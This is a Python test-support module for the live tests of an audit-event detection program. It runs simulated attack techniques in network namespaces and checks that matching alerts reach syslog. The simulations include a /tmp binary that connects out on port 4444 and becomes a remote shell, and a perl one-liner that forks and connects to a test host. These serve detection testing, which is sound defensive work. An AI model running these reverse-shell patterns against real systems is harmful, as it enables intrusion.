# SPDX-License-Identifier: Apache-2.0
"""What the live tests share: the lock, the audit state before and after, a network of two
namespaces, a syslog server, the program under test, and the two techniques that must be found.

A live test prints why and exits with 77 where the kernel's feeds cannot be had. It looks only at
processes that it started, because other work runs on the machine, and ends them by their pids.
"""

import contextlib
import ctypes
import fcntl
import json
import os
import pathlib
import re
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import traceback

SKIPPED = 77
LOCK = "/run/lock/audisp-eql-live-tests.lock"
# A loaded machine of two cores, with sanitizers.
PATIENCE = 30.0
CLIENT, SERVER = "198.51.100.1", "198.51.100.2"
CLIENT6, SERVER6 = "2001:db8:51::1", "2001:db8:51::2"
IPV6 = os.path.exists("/proc/net/if_inet6")
PORT = 4444
SUSPICIOUS_BINARY = "fa3a59dc-33c3-43bf-80a9-e8437a922c7f"
SUSPICIOUS_PARENT = "4b1a807a-4e7b-414e-8cea-24bf580f6fc5"
# Nothing of the host's configuration; and each alert by itself, as the replay of the run prints it.
RUN = ("run", "--config", "/dev/null", "--fold-window", "off", "--alert-ceiling", "0",
       "--status-socket", "off")


class Failure(Exception):
    pass


def expect(condition, text):
    if not condition:
        raise Failure(text)


def wait_for(what, ask, patience=PATIENCE):
    """The first true answer of ask(); Failure with what() if none comes."""
    end = time.monotonic() + patience
    while True:
        answer = ask()
        if answer:
            return answer
        if time.monotonic() > end:
            raise Failure(what() if callable(what) else what)
        time.sleep(0.02)


def sh(*command):
    done = subprocess.run(command, capture_output=True, text=True, stdin=subprocess.DEVNULL)
    if done.returncode != 0:
        raise Failure(f"{' '.join(command)}: {done.stderr.strip()}")
    return done.stdout


# ---- what the machine must give ----


def audit_status():
    status = {}
    for line in sh("auditctl", "-s").splitlines():
        name, _, value = line.partition(" ")
        if re.fullmatch(r"\d+", value):
            status[name] = int(value)
    return status


def reason_to_skip():
    if os.geteuid() != 0:
        return "not root"
    for tool in ("auditctl", "ip", "rsyslogd", "perl"):
        if shutil.which(tool) is None:
            return f"{tool} is not installed"
    try:
        status = audit_status()
    except Failure as problem:
        return f"the kernel's audit does not answer: {problem}"
    if status.get("enabled") == 2:
        return "the audit settings are locked until the next boot (enabled=2)"
    if status.get("pid", 0) != 0:
        return f"process {status['pid']} holds the audit feed"
    return None


class AuditState:
    """The settings and rules that must be the same afterwards."""

    KEPT = ("enabled", "failure", "pid", "rate_limit", "backlog_limit", "backlog_wait_time")

    def __init__(self):
        self.before = self.now()

    def now(self):
        status = audit_status()
        return {name: status.get(name) for name in self.KEPT} | {"rules": sh("auditctl", "-l")}

    def check_restored(self):
        now = self.now()
        changed = {k: (v, now[k]) for k, v in self.before.items() if now[k] != v}
        expect(not changed, f"audit is not as it was before: {changed}")

    def put_back(self):
        """For a program that did not end as it should; its rules are known by their keys."""
        for key in set(re.findall(r"key=(audisp-eql[\w-]*)", sh("auditctl", "-l"))):
            sh("auditctl", "-D", "-k", key)
        for option, name in (("-e", "enabled"), ("-b", "backlog_limit"),
                             ("--backlog_wait_time", "backlog_wait_time")):
            sh("auditctl", option, str(self.before[name]))


# ---- the network: two namespaces, one veth pair, documentation addresses ----


class Network:
    def __init__(self):
        self.client, self.server = f"aeql-c-{os.getpid()}", f"aeql-s-{os.getpid()}"

    def __enter__(self):
        try:
            for name in (self.client, self.server):
                sh("ip", "netns", "add", name)
            sh("ip", "-n", self.client, "link", "add", "veth0", "type", "veth", "peer", "name",
               "veth0", "netns", self.server)
            for name, address, address6 in ((self.client, CLIENT, CLIENT6),
                                            (self.server, SERVER, SERVER6)):
                sh("ip", "-n", name, "address", "add", f"{address}/24", "dev", "veth0")
                if IPV6:
                    sh("ip", "-n", name, "address", "add", f"{address6}/64", "dev", "veth0",
                       "nodad")
                sh("ip", "-n", name, "link", "set", "veth0", "up")
                sh("ip", "-n", name, "link", "set", "lo", "up")
        except Failure:
            self.__exit__()
            raise
        return self

    def __exit__(self, *_):
        for name in (self.client, self.server):
            subprocess.run(["ip", "netns", "delete", name], capture_output=True)

    def at_server(self, make):
        """What make() makes in the server's namespace: a socket stays where it was made."""
        made, problems = [], []

        def enter_and_make():
            libc = ctypes.CDLL(None, use_errno=True)
            try:
                with open(f"/run/netns/{self.server}", "rb") as namespace:
                    if libc.setns(namespace.fileno(), 0x40000000) != 0:  # CLONE_NEWNET
                        raise OSError(ctypes.get_errno(), "setns")
                made.append(make())
            except OSError as problem:
                problems.append(problem)

        thread = threading.Thread(target=enter_and_make)
        thread.start()
        thread.join()
        if problems:
            raise problems[0]
        return made[0]

    def listener(self):
        listening = self.at_server(lambda: socket.create_server((SERVER, PORT)))
        listening.settimeout(PATIENCE)
        return listening

    def inside(self, *command):
        return ["ip", "netns", "exec", self.client, *command]


# ---- processes of ours ----


class Process:
    """Ended with the block that started it, by its pid."""

    def __init__(self, *command, log, **options):
        self.log = pathlib.Path(log)
        self.name = pathlib.Path(command[0]).name
        self.started = subprocess.Popen(
            command, stderr=self.log.open("wb"), **({"stdin": subprocess.DEVNULL} | options))
        self.pid = self.started.pid

    def __enter__(self):
        return self

    def __exit__(self, *_):
        if self.started.poll() is None:
            self.started.terminate()
            try:
                self.started.wait(PATIENCE)
            except subprocess.TimeoutExpired:
                self.started.kill()
                self.started.wait()

    def text(self):
        return self.log.read_text(errors="replace")

    def wait_for_line(self, pattern):
        def ask():
            found = re.search(pattern, self.text())
            if not found and self.started.poll() is not None:
                raise Failure(f"{self.name} ended with {self.started.returncode}:\n{self.text()}")
            return found

        return wait_for(lambda: f"{self.name} did not say '{pattern}':\n{self.text()}", ask)

    def stop(self, number=signal.SIGTERM):
        """Its exit code."""
        self.started.send_signal(number)
        try:
            return self.started.wait(PATIENCE)
        except subprocess.TimeoutExpired:
            raise Failure(f"{self.name} did not end:\n{self.text()}") from None


class Syslog(Process):
    """A real rsyslogd with a socket and a file of its own."""

    def __init__(self, directory):
        self.socket, self.file = f"{directory}/dev-log", pathlib.Path(directory, "syslog.log")
        config = pathlib.Path(directory, "rsyslog.conf")
        config.write_text(f"""\
module(load="imuxsock" SysSock.Use="off")
input(type="imuxsock" Socket="{self.socket}" CreatePath="on" RateLimit.Interval="0")
template(name="line" type="string" string="%syslogfacility-text%.%syslogseverity-text% %syslogtag%%msg%\\n")
action(type="omfile" file="{self.file}" template="line")
""")
        super().__init__("rsyslogd", "-n", "-f", str(config), "-i", f"{directory}/rsyslog.pid",
                         log=f"{directory}/rsyslog.err")
        wait_for(lambda: f"rsyslogd made no socket:\n{self.text()}",
                 lambda: os.path.exists(self.socket))

    def alerts(self):
        """Every alert in rsyslog's file, in order."""
        if not self.file.exists():
            return []
        found = []
        for line in self.file.read_text(errors="replace").splitlines(keepends=True):
            # The last line may be half written.
            if line.endswith("\n") and "audisp-eql" in line and "{" in line:
                with contextlib.suppress(json.JSONDecodeError):
                    document = json.loads(line[line.index("{"):])
                    if document.get("event", {}).get("kind") == "alert":
                        found.append(document)
        return found

    def wait_for_alert(self, rule, pid):
        """The alert of a rule in whose sequence this pid acts."""

        def ask():
            for alert in self.alerts():
                if alert["rule"]["id"] == rule and pid in pids_of(alert):
                    return alert
            return None

        text = self.file.read_text(errors="replace")[-2000:] if self.file.exists() else "nothing"
        return wait_for(f"no alert of {rule} for pid {pid} in rsyslog's file:\n{text}", ask)


def events_of(alert):
    """The sequence's events. An alert carries its last event's fields itself, and one that was
    trimmed for syslog has them nowhere else."""
    events = [event for event in alert["audisp_eql"]["sequence"] if event is not None]
    return events[:-1] + [alert]


def pids_of(alert):
    return {event["process"]["pid"] for event in events_of(alert)}


def first(value):
    return value[0] if isinstance(value, list) else value


PARALLEL = 16


def run_programs(count):
    """Runs /bin/true, PARALLEL at a time; the pids."""
    pids, running = [], []
    for _ in range(count):
        running.append(subprocess.Popen(["/bin/true"], stdin=subprocess.DEVNULL))
        pids.append(running[-1].pid)
        if len(running) == PARALLEL:
            for process in running:
                process.wait()
            running.clear()
    for process in running:
        process.wait()
    return pids


# ---- the techniques ----


class Techniques:
    def __init__(self, network, stageless, directory):
        self.network = network
        # Somewhere below /tmp: the rule names the place.
        self.binary = f"{directory}/update"
        shutil.copy(stageless, self.binary)
        os.chmod(self.binary, 0o755)

    def suspicious_binary(self):
        """A shell starts a program below /tmp, which connects and becomes a shell that answers."""
        with self.network.listener() as listener:
            started = subprocess.Popen(
                self.network.inside("bash", "-c", f"{self.binary} {SERVER} {PORT}; true"),
                stdin=subprocess.DEVNULL)
            try:
                connection, _ = listener.accept()
                with connection:
                    connection.settimeout(PATIENCE)
                    connection.sendall(b"echo $$ $PPID; exit\n")
                    pid, parent = connection.makefile().readline().split()
            finally:
                started.wait(PATIENCE)
        return int(pid), int(parent)

    def suspicious_parent(self):
        """An interpreter with its program on the command line forks, and the child connects."""
        code = ("use Socket; $p = fork; if ($p) { waitpid $p, 0; exit }"
                "socket S, PF_INET, SOCK_STREAM, 0; "
                f"connect S, sockaddr_in({PORT}, inet_aton('{SERVER}')) or die $!; "
                "syswrite S, $$ . ' ' . getppid . qq(\\n);")
        with self.network.listener() as listener:
            started = subprocess.Popen(self.network.inside("perl", "-e", code),
                                       stdin=subprocess.DEVNULL)
            try:
                connection, _ = listener.accept()
                with connection:
                    connection.settimeout(PATIENCE)
                    pid, parent = connection.makefile().readline().split()
            finally:
                started.wait(PATIENCE)
        return int(pid), int(parent)


def check_suspicious_binary(alert, pid, parent):
    events = events_of(alert)
    expect([first(e["event"]["action"]) for e in events] ==
           ["exec", "connection_attempted", "exec"], f"another sequence: {alert}")
    expect([e["process"]["pid"] for e in events] == [pid] * 3, f"other pids than {pid}: {alert}")
    check_parent(events, parent, alert)
    expect(len({e["process"]["entity_id"] for e in events}) == 1, f"not one process: {alert}")
    check_destination(events[1], alert)
    expect("sh" in events[2]["process"]["name"], f"the shell's name is missing: {alert}")


def check_suspicious_parent(alert, pid, parent):
    events = events_of(alert)
    expect([first(e["event"]["action"]) for e in events] == ["fork", "connection_attempted"],
           f"another sequence: {alert}")
    expect([e["process"]["pid"] for e in events] == [pid] * 2, f"other pids than {pid}: {alert}")
    check_parent(events, parent, alert)
    check_destination(events[1], alert)


def check_parent(events, parent, alert):
    expect([e["process"]["parent"]["pid"] for e in events] == [parent] * len(events),
           f"another parent than {parent}: {alert}")


def check_destination(event, alert):
    peer = event["destination"]
    expect((peer["ip"], peer["port"]) == (SERVER, PORT), f"another destination: {alert}")


# ---- the frame of a test ----


def main(name, test):
    """Runs test(arguments, directory) under the lock; arguments: program, stageless, rules."""
    arguments = dict(zip(("program", "stageless", "rules"), sys.argv[1:]))
    with open(LOCK, "w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        reason = reason_to_skip()
        if reason:
            print(f"{name}: skipped: {reason}")
            sys.exit(SKIPPED)
        audit = AuditState()
        directory = tempfile.mkdtemp(prefix="audisp-eql-live.", dir="/tmp")
        # The process that sends alerts is another user, and the sockets lie in there.
        os.chmod(directory, 0o755)
        try:
            test(arguments, directory)
            audit.check_restored()
        except Exception as problem:
            if not isinstance(problem, Failure):
                traceback.print_exc(file=sys.stdout)
            print(f"{name}: failed: {problem}\nThe files of this run: {directory}")
            sys.exit(1)
        finally:
            audit.put_back()
        shutil.rmtree(directory)
    print(f"{name}: passed")
